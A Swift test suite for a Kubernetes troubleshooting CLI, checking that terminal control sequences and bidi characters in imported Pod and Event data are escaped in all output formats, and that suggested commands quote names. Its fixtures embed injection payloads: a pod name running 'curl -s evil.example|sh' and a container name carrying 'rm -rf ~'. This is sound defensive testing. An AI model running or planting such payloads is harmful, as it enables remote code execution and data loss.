import Foundation
import Testing

/// A store whose Events and Pods carry terminal control sequences (clear screen, an OSC 52 clipboard
/// write, BEL, CSI as C1 U+009B, a right-to-left override, DEL, CR) and a pod name that spells a shell
/// command, put through every verb and format: the piped output never carries a control character,
/// and suggested commands quote the names.
@Suite struct HostileTextTests {
  static let hostile = "\u{1B}[2J\u{1B}]52;c;ZXZpbA==\u{07}\u{9B}31m\u{202E}\u{7F}\r\u{2066}"
  static let podName = "web$(curl -s evil.example|sh)" + hostile
  static let container = "app;rm -rf ~"
  /// Every control scalar a text may carry, NUL included: C0 but tab and newline, DEL, C1, the
  /// bidi marks, embeddings, overrides and isolates. Event messages and a waiting message hold them all.
  static let everyControl = String(String.UnicodeScalarView(
    (Array(0x00...0x1F).filter { $0 != 0x09 && $0 != 0x0A } + Array(0x7F...0x9F) + [0x061C, 0x200E, 0x200F]
      + Array(0x202A...0x202E) + Array(0x2066...0x2069)).compactMap { Unicode.Scalar(UInt32($0)) }))

  /// Writes the Pod list and the Event list (as kubectl's JSON) into a fresh store's folder.
  static func hostileStore() throws -> (CLI, [String]) {
    let cli = try CLI()
    let dir = URL(filePath: cli.store).deletingLastPathComponent()
    let h = hostile
    let pod: [String: Any] = [
      "apiVersion": "v1", "kind": "Pod",
      "metadata": ["name": podName, "namespace": "shop", "uid": "u1", "creationTimestamp": "2026-03-10T14:00:00Z"],
      "spec": ["nodeName": "node" + h, "restartPolicy": "Always", "containers": [["name": container, "image": "img" + h]]],
      "status": ["phase": "Running", "conditions": [["type": "Ready", "status": "False"]],
                 "containerStatuses": [["name": container, "ready": false, "restartCount": 4, "image": "img" + h,
                                        "state": ["waiting": ["reason": "CrashLoopBackOff", "message": "back-off" + h + everyControl]],
                                        "lastState": ["terminated": ["exitCode": 1, "reason": "Error" + h,
                                                                     "startedAt": "2026-03-10T14:05:00Z", "finishedAt": "2026-03-10T14:05:10Z"]]]]],
    ]
    let events: [[String: Any]] = [("Scheduled", "Successfully assigned" + h), ("BackOff", "Back-off restarting failed container" + h),
                                   ("Evil" + h, "message" + h + everyControl)].enumerated().map { i, e in
      ["apiVersion": "v1", "kind": "Event", "count": 3, "type": "Warning", "reason": e.0, "message": e.1,
       "firstTimestamp": "2026-03-10T14:0\(i + 1):00Z", "lastTimestamp": "2026-03-10T14:0\(i + 1):30Z",
       "involvedObject": ["kind": "Pod", "name": podName, "namespace": "shop", "uid": "u1"],
       "metadata": ["name": "e\(i)" + h, "namespace": "shop"], "source": ["component": "kubelet" + h]]
    }
    var files: [String] = []
    for (name, items) in [("pods.json", [pod]), ("events" + h + ".json", events)] {
      let url = dir.appending(path: name)
      try JSONSerialization.data(withJSONObject: ["apiVersion": "v1", "kind": "List", "items": items]).write(to: url)
      files.append(url.path)
    }
    return (cli, files)
  }

  /// The control characters in `text`: C0 but tab and newline, DEL, C1, bidi controls.
  static func controls(_ text: String) -> [String] {
    text.unicodeScalars.filter { u in
      switch u.value {
      case 0x09, 0x0A: false
      case 0x00...0x1F, 0x7F...0x9F, 0x200E, 0x200F, 0x061C, 0x202A...0x202E, 0x2066...0x2069: true
      default: false
      }
    }.map { "U+" + String($0.value, radix: 16) }
  }

  @Test func noVerbOrFormatPrintsAControlCharacterFromTheData() throws {
    let (cli, files) = try HostileTextTests.hostileStore()
    let imported = try cli.run(["import"] + files)
    #expect(imported.status == 0, "\(imported.err)")
    #expect(HostileTextTests.controls(imported.out + imported.err).isEmpty)
    #expect(imported.out.contains("events\\x1b[2J"), "the file name is shown escaped: \(imported.out)")
    let runs: [[String]] = [
      ["get", "pods", "-A"], ["get", "pods", "-A", "-o", "wide"], ["get", "pods", "-A", "-o", "json"], ["get", "pods", "-A", "-o", "yaml"],
      ["why", "-A"], ["why", "-A", "-o", "json"], ["why", "-A", "-o", "yaml"], ["why", "web"],
      ["status", "web"], ["status", "web", "-o", "json"], ["status", "web", "-o", "yaml"],
      ["timeline", "web"], ["timeline", "web", "-o", "json"], ["restarts", "web"], ["restarts", "web", "-o", "json"],
      ["get", "nodes"], ["verify"], ["why", "nothing" + HostileTextTests.hostile], ["status", "web", "--at", "x" + HostileTextTests.hostile],
    ]
    for args in runs {
      let r = try cli.run(args)
      let shown = args.map { $0.replacingOccurrences(of: HostileTextTests.hostile, with: "<hostile>") }.joined(separator: " ")
      #expect(HostileTextTests.controls(r.out).isEmpty, "\(shown) stdout: \(HostileTextTests.controls(r.out))")
      #expect(HostileTextTests.controls(r.err).isEmpty, "\(shown) stderr: \(HostileTextTests.controls(r.err))")
      #expect(r.out.contains("[2J") || r.err.contains("[2J") || args == ["verify"] || args == ["get", "nodes"], "\(shown) shows the sequence escaped")
      if args.contains("json") || args.contains("yaml") {
        #expect(r.out.contains("\\u001b[2J") && r.out.contains("\\u009b") && r.out.contains("\\u202e") && r.out.contains("\\u007f"), "\(shown): \(r.out)")
      } else if r.status == 0, args != ["verify"], args != ["get", "nodes"] {
        #expect(r.out.contains("\\x1b[2J"), "\(shown): \(r.out)")
      }
    }
    // The messages that hold every control are shown, each control escaped.
    let timeline = try cli.run(["timeline", "web"]).out
    for shown in ["\\x00", "\\x01", "\\x1f", "\\x7f", "\\u0080", "\\u009f", "\\u061c", "\\u200e", "\\u202a", "\\u2069"] {
      #expect(timeline.contains(shown), "timeline shows \(shown): \(timeline)")
    }
    let json = try cli.run(["get", "pods", "-A", "-o", "json"]).out
    let doc = try JSONSerialization.jsonObject(with: Data(json.utf8)) as? [String: Any]
    let items = doc?["items"] as? [[String: Any]]
    #expect(items?.first?["name"] as? String == HostileTextTests.podName, "JSON escapes decode to the data itself")
  }

  @Test func badInputErrorsAreNeutralised() throws {
    let (cli, _) = try HostileTextTests.hostileStore()
    let dir = URL(filePath: cli.store).deletingLastPathComponent()
    let bad = dir.appending(path: "bad.json")
    try Data("{\"kind\": \"EventList\", \"items\": [\u{1B}[2J\u{9B}\u{202E}".utf8).write(to: bad)
    let r = try cli.run(["import", "--format", "events-json", bad.path])
    #expect(r.status == 2)
    #expect(HostileTextTests.controls(r.err).isEmpty, "\(HostileTextTests.controls(r.err))")
  }

  @Test func suggestedCommandsQuoteTheNames() throws {
    let (cli, files) = try HostileTextTests.hostileStore()
    #expect(try cli.run(["import"] + files).status == 0)
    let r = try cli.run(["why", "web", "-o", "json"])
    let doc = try JSONSerialization.jsonObject(with: Data(r.out.utf8)) as? [String: Any]
    let causes = (doc?["items"] as? [[String: Any]])?.first?["causes"] as? [[String: Any]] ?? []
    let hints = causes.flatMap { $0["hints"] as? [String] ?? [] }.filter { $0.contains("kubectl logs") }
    #expect(!hints.isEmpty)
    for h in hints {
      #expect(h.contains("kubectl logs '\(HostileTextTests.podName)' -c 'app;rm -rf ~'"), "\(h)")
      #expect(!h.contains("logs web$("), "\(h)")
    }
  }
}
